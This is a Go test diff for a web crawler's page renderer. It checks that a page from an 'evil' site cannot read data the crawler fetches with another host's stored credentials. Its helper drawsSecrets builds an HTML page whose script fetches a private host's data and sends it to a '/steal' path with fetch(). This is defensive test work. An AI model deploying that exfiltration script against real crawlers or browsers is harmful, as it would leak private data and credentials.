@@ -152,6 +152,89 @@ func TestRender(t *testing.T) {
 	}
 }
 
+// TestRenderSecrets renders a page that loads a script and data of a private host, after a page of
+// that host has loaded them. The page of the other site gets what a stranger gets.
+func TestRenderSecrets(t *testing.T) {
+	needBrowser(t)
+	const secret, stranger = "the harvest of the secret garden", "nothing to see for strangers"
+	loaded := make(chan struct{})
+	var once sync.Once
+	var mu sync.Mutex
+	var asked []string // URLs of requests to the other site
+	priv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		text := stranger
+		if _, password, _ := r.BasicAuth(); r.Header.Get("X-Token") == "sesame-1" && password == "sesame-2" {
+			text = secret
+		}
+		w.Header().Set("Access-Control-Allow-Origin", "*")
+		switch r.URL.Path {
+		case "/":
+			w.Header().Set("Content-Type", "text/html")
+			fmt.Fprint(w, drawsSecrets("", ""))
+		case "/data.js":
+			w.Header().Set("Content-Type", "text/javascript")
+			fmt.Fprintf(w, "window.data = %q", text)
+		case "/api":
+			fmt.Fprint(w, text)
+		case "/done":
+			once.Do(func() { close(loaded) })
+		default:
+			http.NotFound(w, r)
+		}
+	}))
+	defer priv.Close()
+	evil := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		mu.Lock()
+		asked = append(asked, r.URL.String())
+		mu.Unlock()
+		if r.URL.Path != "/" {
+			http.NotFound(w, r)
+			return
+		}
+		select {
+		case <-loaded:
+		case <-r.Context().Done():
+		}
+		w.Header().Set("Content-Type", "text/html")
+		fmt.Fprint(w, drawsSecrets(priv.URL, "/steal"))
+	}))
+	defer evil.Close()
+	dir := t.TempDir()
+	config := fmt.Sprintf("render = \"always\"\ndelay = \"0s\"\n[host.%q]\nuser = \"me\"\npassword = \"sesame-2\"\nheaders = { X-Token = \"sesame-1\" }\n", strings.TrimPrefix(priv.URL, "http://"))
+	if err := os.WriteFile(filepath.Join(dir, "skink.toml"), []byte(config), 0o600); err != nil {
+		t.Fatal(err)
+	}
+	runIn(t, dir, "crawl", "--config", "skink.toml", priv.URL, evil.URL)
+	texts := map[string]string{}
+	for line := range bytes.Lines(runIn(t, dir, "export", "--include", "all", "--with-private")) {
+		var d fed
+		if err := json.Unmarshal(line, &d); err != nil {
+			t.Fatal(err)
+		}
+		texts[d.URL] = d.Text
+	}
+	if n := strings.Count(texts[priv.URL+"/"], secret); n != 2 {
+		t.Errorf("the private page has its text %d times, want 2: %q", n, texts[priv.URL+"/"])
+	}
+	if text := texts[evil.URL+"/"]; strings.Contains(text, secret) || strings.Count(text, stranger) != 2 {
+		t.Errorf("the page of the other site says %q", text)
+	}
+	all := fmt.Sprint(asked)
+	if strings.Contains(all, "harvest") || strings.Contains(all, "sesame") || !strings.Contains(all, "strangers") {
+		t.Errorf("the other site was asked for %s", all)
+	}
+}
+
+// drawsSecrets returns a page whose script shows the data of a host twice, and sends it to a URL.
+func drawsSecrets(host, to string) string {
+	return fmt.Sprintf(`<title>Data</title><main><p id=a></p><p id=b></p></main><script src="%[1]s/data.js"></script><script>
+fetch("%[1]s/api").then(r => r.text()).then(text => {
+	a.textContent = "First it says: " + window.data + ", and no more of it is known to anybody.";
+	b.textContent = "Then it says: " + text + ", and that is all there is to say about it.";
+	return fetch("%[2]s/done?" + encodeURIComponent(window.data + text));
+})</script>`, host, to)
+}
+
 // TestRenderByHost sets --render for single hosts in the configuration file: one host is rendered
 // although the crawl renders none, and the other is not although the crawl renders pages.
 func TestRenderByHost(t *testing.T) {
